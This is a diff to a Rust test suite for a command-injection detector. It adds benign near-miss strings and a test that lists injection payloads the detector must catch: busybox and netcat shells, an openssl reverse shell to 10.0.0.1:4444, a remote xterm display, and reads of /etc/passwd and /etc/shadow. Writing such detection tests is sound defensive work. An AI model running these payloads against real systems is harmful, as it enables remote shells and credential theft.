@@ -127,6 +127,12 @@ const HARD_NEGATIVES: &[&str] = &[
     "Use {cat,dog} as tags",
     "/search?q=who+am+i&lang=en",
     "Invoke the API with the token; see docs",
+    "Golf tee; pack of 10",
+    "tar & feathers",
+    "openssl version",
+    "scp upload | FAQ",
+    "Sed quis custodiet; ipsos custodes",
+    "Busybox | kids toys",
 ];
 
 #[test]
@@ -288,5 +294,22 @@ fn padding_commands_hide_no_windows_command() {
     for (pad, level) in [(16, 1), (17, 1), (30, 1), (100, 2), (20_000, 2)] {
         let text = format!("{}cmd /c whoami", "echo a&".repeat(pad));
         assert_eq!(detect(&text, Place::QueryValue, "q", level), Some("command-injection:windows-cmd"), "{pad} commands in front");
+    }
+}
+
+/// Commands and wrappers added after a red-team pass (2026-11-26): an applet run through
+/// `busybox`, and tools whose arguments make them an attacker's (a listener, a TLS reverse
+/// shell, a remote X display, a stream editor on a sensitive file).
+#[test]
+fn wrapped_and_less_common_commands_are_caught() {
+    for attack in [
+        "x|busybox telnetd -l /bin/sh -p 9999",
+        "; busybox nc 10.0.0.5 4444 -e /bin/sh",
+        "; openssl s_client -quiet -connect 10.0.0.1:4444",
+        "| xterm -display 10.0.0.1:1",
+        "; sed -n 1,5p /etc/passwd",
+        "&& doas cat /etc/shadow",
+    ] {
+        assert!(detect(attack, Place::QueryValue, "q", 1).is_some(), "missed: {attack}");
     }
 }
